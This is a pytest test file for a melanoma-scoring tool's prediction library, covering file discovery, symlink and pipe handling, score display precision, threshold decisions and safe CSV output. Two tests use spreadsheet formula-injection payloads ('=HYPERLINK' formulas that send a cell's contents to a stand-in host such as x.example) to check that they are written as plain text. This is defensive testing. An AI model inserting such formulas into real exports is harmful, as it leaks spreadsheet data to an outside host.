"""`melanoma predict`'s library: which files it scores, how it decides and prints, its CSV."""

import csv
import math
import os
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from melanoma.checkpoint import load_checkpoint
from melanoma.errors import UserError
from melanoma.images import decode_rgb
from melanoma.predict import (
    DecidedBy,
    Prediction,
    app_probability,
    digits_to_tell,
    image_files,
    predict_images,
    write_predictions_csv,
)
from melanoma.preprocess import image_to_input

BY = DecidedBy("youden", 0.5, "reference-sgan", "ab" * 32)  # what decided a written CSV


@pytest.fixture(scope="module")
def sgan():
    return load_checkpoint("reference-sgan")


def test_files_in_a_folder_that_are_not_photos_are_named_not_dropped_silently(tmp_path, caplog):
    for name in ("b.jpg", "a.PNG", "notes.txt", "sub/c.heic", ".DS_Store"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(b"")
    assert [p.name for p in image_files([tmp_path])] == ["a.PNG", "b.jpg"]
    assert "skipped 2 file(s) that are not .jpg/.jpeg/.png: notes.txt, sub/c.heic" in caplog.text


def test_photos_named_by_str_from_python_are_found_and_refused_alike(tmp_path):
    """predict_images(checkpoint, ["mole.jpg"], t) raised AttributeError ('str' has no
    is_dir) instead of finding the photo, or naming the one that is missing."""
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.jpg").write_bytes(b"")
    (tmp_path / "a.png").write_bytes(b"")
    found = image_files([str(tmp_path / "a.png"), str(tmp_path / "sub")])
    assert found == [tmp_path / "a.png", tmp_path / "sub" / "b.jpg"]
    with pytest.raises(UserError, match="gone.jpg: no such file or directory$"):
        image_files([str(tmp_path / "gone.jpg")])
    (tmp_path / "loop.jpg").symlink_to("loop.jpg")
    with pytest.raises(UserError, match="loop.jpg: no such file or directory .a broken or loop"):
        image_files([tmp_path / "loop.jpg"])
    # one path not in a list was read letter by letter ("/: ...", "t: no such file")
    assert image_files(str(tmp_path / "a.png")) == image_files(tmp_path / "a.png") == found[:1]


def test_a_device_or_pipe_named_as_a_photo_is_refused_as_such(tmp_path):
    os.mkfifo(tmp_path / "x.jpg")  # reading it would wait forever for a writer
    for path in (tmp_path / "x.jpg", Path("/dev/zero")):
        with pytest.raises(UserError, match=f"^{path}: not a regular file or directory$"):
            image_files([path])
    with pytest.raises(UserError, match="gone.jpg: no such file or directory$"):
        image_files([tmp_path / "gone.jpg"])


def test_hidden_files_and_folders_are_skipped_even_with_a_photo_suffix(tmp_path, caplog):
    """macOS leaves ._IMG.jpg metadata files beside photos copied to shared drives."""
    for name in ("IMG.jpg", "._IMG.jpg", ".thumbs/x.jpg", ".DS_Store"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(b"")
    assert [p.name for p in image_files([tmp_path])] == ["IMG.jpg"]
    assert "skipped" not in caplog.text
    assert image_files([tmp_path / "._IMG.jpg"]) == [tmp_path / "._IMG.jpg"]  # named: kept


def test_linked_folders_are_followed_once_and_broken_links_named(sgan, tmp_path, caplog):
    (tmp_path / "elsewhere").mkdir()
    Image.new("RGB", (32, 32)).save(tmp_path / "elsewhere" / "far.jpg")
    top = tmp_path / "top"
    top.mkdir()
    (top / "own.jpg").write_bytes((tmp_path / "elsewhere" / "far.jpg").read_bytes())
    (top / "linked").symlink_to(tmp_path / "elsewhere")
    (top / "loop").symlink_to(top)  # a folder linking to itself must not hang the walk
    (top / "old").symlink_to(tmp_path / "deleted")  # a folder on a disk not mounted
    (top / "gone.jpg").symlink_to(tmp_path / "deleted.jpg")
    found = image_files([top])
    names = ["gone.jpg", "linked/far.jpg", "own.jpg"]
    assert [p.relative_to(top).as_posix() for p in found] == names
    assert "skipped 1 broken link(s) or special file(s): old" in caplog.text
    # a photo that cannot be read, as a corrupt one: it was skipped with a warning, exit 0
    with pytest.raises(UserError, match=r"^1 of 3 images unusable.*gone\.jpg: a broken or"):
        predict_images(sgan, [top], 0.5)


def test_digits_to_tell_print_a_score_apart_from_a_threshold_it_is_not():
    assert digits_to_tell([0.2, 0.9], 0.5) == 4
    below, above = 0.5186243, 0.5186336  # both 0.5186 at four decimals
    digits = digits_to_tell([below, above, 0.7], 0.518627)
    assert digits == 6
    assert f"{below:.{digits}f}" < f"{0.518627:.{digits}f}" < f"{above:.{digits}f}"
    assert digits_to_tell([0.518627], 0.518627) == 4  # equal: flagged, and printed equal
    threshold = float(np.float32(0.0012))  # near 0, a float32 step is ~1e-10
    below = float(np.nextafter(np.float32(0.0012), np.float32(0)))
    digits = digits_to_tell([below], threshold)
    assert f"{below:.{digits}f}" < f"{threshold:.{digits}f}"


def test_predictions_csv_never_overwrites_a_photo_or_invents_a_folder(tmp_path):
    photo = tmp_path / "x.jpg"
    photo.write_bytes(b"a photo")
    with pytest.raises(UserError, match="--csv names one of the photos"):
        write_predictions_csv(photo, [Prediction(str(photo), 0.3, False)], BY)
    assert photo.read_bytes() == b"a photo"
    with pytest.raises(UserError, match="--csv's folder .*typo does not exist"):
        write_predictions_csv(tmp_path / "typo" / "o.csv", [Prediction(str(photo), 0.3, False)], BY)
    assert not (tmp_path / "typo").exists()


def test_a_photo_or_checkpoint_named_like_a_formula_is_written_as_text(tmp_path):
    """A spreadsheet opening the CSV ran '=HYPERLINK(...)' in a photo's name as a formula; as
    ./=HYPERLINK(...) it is text and still names the same file. Other names are as given."""
    names = ['=HYPERLINK("http:\\\\x\\?"&B2,"see").jpg', "+1.jpg", "-a.jpg", "@b.jpg",
             "\t=c.jpg", "a=b.jpg", "/abs/=d.jpg"]  # fmt: skip
    by = DecidedBy("youden", 0.5, "=ckpt", "ab" * 32)
    out = tmp_path / "o.csv"
    write_predictions_csv(out, [Prediction(name, 0.3, False) for name in names], by)
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    shown = [name if name[0] in "a/" else f"./{name}" for name in names]  # ./, not .\ on Windows
    assert [row["path"] for row in rows] == shown
    assert {row["checkpoint"] for row in rows} == {"./=ckpt"}
    assert [Path(row["path"]) for row in rows] == [Path(name) for name in names]  # same files


def test_a_threshold_named_like_a_formula_is_written_as_text(tmp_path):
    """An SGAN checkpoint from before 2026-12-03 keeps no predictions to check its
    metadata.json's threshold names against: predict --threshold '=HYPERLINK(...)' with
    one that lists it wrote that formula into the CSV's threshold_name cell, unquoted."""
    name = '=HYPERLINK("http://x.example/?"&A2,"see")'
    out = tmp_path / "o.csv"
    write_predictions_csv(out, [Prediction("a.jpg", 0.3, False)], DecidedBy(name, 0.5, "c", ""))
    with out.open(newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["threshold_name"] == "'" + name and row["path"] == "a.jpg"


def test_a_photo_named_twice_is_scored_once(tmp_path):
    (tmp_path / "a.jpg").write_bytes(b"")
    (tmp_path / "b.jpg").write_bytes(b"")
    (tmp_path / "sub").mkdir()
    named = [tmp_path / "b.jpg", tmp_path, tmp_path / "sub" / ".." / "b.jpg"]
    assert image_files(named) == [tmp_path / "b.jpg", tmp_path / "a.jpg"]


def test_a_photo_scored_exactly_at_the_threshold_is_flagged(sgan, tmp_path):
    """p >= threshold, as the app decides (its RiskBandsTest): the threshold is set to the
    photo's own score."""
    photo = tmp_path / "mole.png"
    Image.new("RGB", (32, 32), (180, 120, 100)).save(photo)
    (scored,) = predict_images(sgan, [photo], 0.5)
    (at,) = predict_images(sgan, [photo], scored.probability)
    (above,) = predict_images(sgan, [photo], np.nextafter(scored.probability, 1.0))
    assert at.melanoma and not above.melanoma


def test_app_probability_is_the_apps_sigmoid_on_both_sides_and_at_the_extremes():
    """RiskBandsTest.sigmoidIsStableAtTheExtremes' values: a positive logit's 1 / (1 + e^-x),
    and no overflow (a traceback mid-folder) for a logit far from 0 on either side."""
    assert app_probability(0.0) == 0.5
    assert app_probability(2.5) == 1 / (1 + math.exp(-2.5))
    assert app_probability(-2.5) == math.exp(-2.5) / (1 + math.exp(-2.5))
    assert app_probability(800.0) == 1.0
    assert app_probability(-800.0) == 0.0


def test_a_score_within_a_float32_step_of_the_threshold_is_decided_as_the_app_does(sgan, tmp_path):
    """The app takes sigmoid of the float32 logit in float64 (RiskBands.sigmoid) and flags
    at p >= threshold. A float32 sigmoid of this photo's logit is 1e-8 above the app's
    probability; at a threshold between the two, predict flagged a photo the app does not."""
    photo = tmp_path / "mole.png"
    Image.new("RGB", (32, 32), (150, 100, 90)).save(photo)
    rgb = decode_rgb(photo.read_bytes(), str(photo))
    with torch.no_grad():
        logit = sgan.model(image_to_input(rgb, sgan.meta.mean, sgan.meta.std))  # (1, 1) float32
    as_float32 = float(torch.sigmoid(logit).item())
    e = math.exp(logit.item())  # the logit is negative: RiskBands.sigmoid's e / (1 + e)
    assert logit.item() < 0
    in_app = e / (1.0 + e)
    assert as_float32 != in_app  # the case this test is about
    between = (as_float32 + in_app) / 2
    (scored,) = predict_images(sgan, [photo], between)
    assert scored.probability == in_app
    assert scored.melanoma == (in_app >= between)


def test_more_than_five_unusable_photos_are_counted_past_the_five_named(sgan, tmp_path):
    """Five are named; the rest were dropped from the message without a count."""
    for i in range(7):
        (tmp_path / f"{i}.jpg").write_bytes(b"not a photo")
    with pytest.raises(
        UserError, match=r"^7 of 7 images unusable, none scored: .*; and 2 more$"
    ) as err:
        predict_images(sgan, [tmp_path], 0.5)
    assert [f"{i}.jpg:" in str(err.value) for i in range(7)] == [True] * 5 + [False] * 2
